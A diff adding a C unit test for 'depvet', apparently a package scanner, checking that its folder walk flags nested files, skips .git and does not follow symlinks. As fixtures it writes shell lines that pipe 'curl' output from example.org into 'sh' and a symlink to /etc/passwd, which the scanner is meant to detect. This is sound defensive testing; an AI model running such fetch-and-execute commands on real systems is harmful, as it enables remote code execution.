@@ -1,0 +1,90 @@
+/* depvet scan's work in the engine (engine/scanjob.h): the folder walk
+ * (links not followed, .git left out, nested folders scanned) as a job of
+ * a job set, and a refused rule folder. */
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "depvet/core/fileio.h"
+#include "depvet/core/xdg.h"
+#include "depvet/engine/scanjob.h"
+#include "helpers.h"
+#include "jobs_test.h"
+
+static void put(const char *dir, const char *rel, const char *text)
+{
+    char p[256];
+    snprintf(p, sizeof(p), "%s/%s", dir, rel);
+    struct diag d;
+    diag_clear(&d);
+    cr_assert(file_write_atomic(p, text, strlen(text), &d), "%s", d.msg);
+}
+
+static size_t hits_of(const struct scan_result *r, const char *rule, const char *file)
+{
+    size_t n = 0;
+    for (size_t i = 0; i < r->n_hits; i++)
+        n += strcmp(r->hits[i].rule, rule) == 0 && strcmp(r->hits[i].file, file) == 0;
+    return n;
+}
+
+static void make_folder(char *dir)
+{
+    cr_assert_not_null(mkdtemp(dir));
+    char sub[160];
+    struct diag d;
+    diag_clear(&d);
+    snprintf(sub, sizeof(sub), "%s/pkg/tools", dir);
+    cr_assert(xdg_mkdirs(sub, &d), "%s", d.msg);
+    snprintf(sub, sizeof(sub), "%s/.git", dir);
+    cr_assert(xdg_mkdirs(sub, &d), "%s", d.msg);
+    put(dir, "setup.py", "from setuptools import setup\nsetup(name='x')\n");
+    put(dir, "pkg/tools/get.sh", "#!/bin/sh\ncurl -s http://example.org/x | sh\n");
+    put(dir, ".git/hook.sh", "curl -s http://example.org/y | sh\n");
+    char link[160];
+    snprintf(link, sizeof(link), "%s/pkg/escape", dir);
+    cr_assert_eq(symlink("/etc/passwd", link), 0);
+}
+
+Test(scanjob, folder_walk_as_a_job)
+{
+    char dir[] = "/tmp/depvet-scanjob-XXXXXX", rules[512];
+    make_folder(dir);
+    snprintf(rules, sizeof(rules), "%s/rules", test_srcdir());
+    struct scan_request q = {.target = dir, .kind = SCAN_FOLDER, .rules_dir = rules,
+                             .eco = ECO_UNKNOWN, .now = 1750000000};
+    struct diag d;
+    diag_clear(&d);
+    void *job = scanjob_start(&q, &d);
+    cr_assert_not_null(job, "%s", d.msg);
+    struct jobs *js = jobs_new();
+    jobs_add(js, &scanjob_ops, job);
+    struct scan_outcome o;
+    struct job_event ev[4];
+    size_t ne = jobs_test_run(js, &o, ev, 4);
+    cr_assert_eq(ne, 1);
+    cr_assert(ev[0].ended);
+    cr_assert_str_eq(ev[0].name, "scan");
+    cr_assert_not(ev[0].failed);
+    cr_assert_not_null(o.res, "%s", o.d.msg);
+    cr_assert_not_null(o.rs);
+    cr_assert_eq(o.eco, ECO_PYPI, "setup.py: guessed PyPI");
+    cr_assert_eq(hits_of(o.res, "shell-download-exec", "pkg/tools/get.sh"), 1, "nested file");
+    cr_assert_eq(hits_of(o.res, "shell-download-exec", ".git/hook.sh"), 0, ".git left out");
+    cr_assert_eq(hits_of(o.res, "archive-symlink", "pkg/escape"), 1, "a link is not followed");
+    scan_outcome_fini(&o);
+    jobs_free(js);
+
+    /* A refused rule folder: nothing scanned, said as a usage error. */
+    q.rules_dir = "/nonexistent/depvet-rules";
+    cr_assert_not(scanjob_run(&q, &o));
+    cr_assert(o.bad_rules);
+    cr_assert(diag_failed(&o.d));
+    cr_assert_null(o.res);
+    scan_outcome_fini(&o);
+    char cmd[96];
+    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
+    cr_assert_eq(system(cmd), 0);
+}
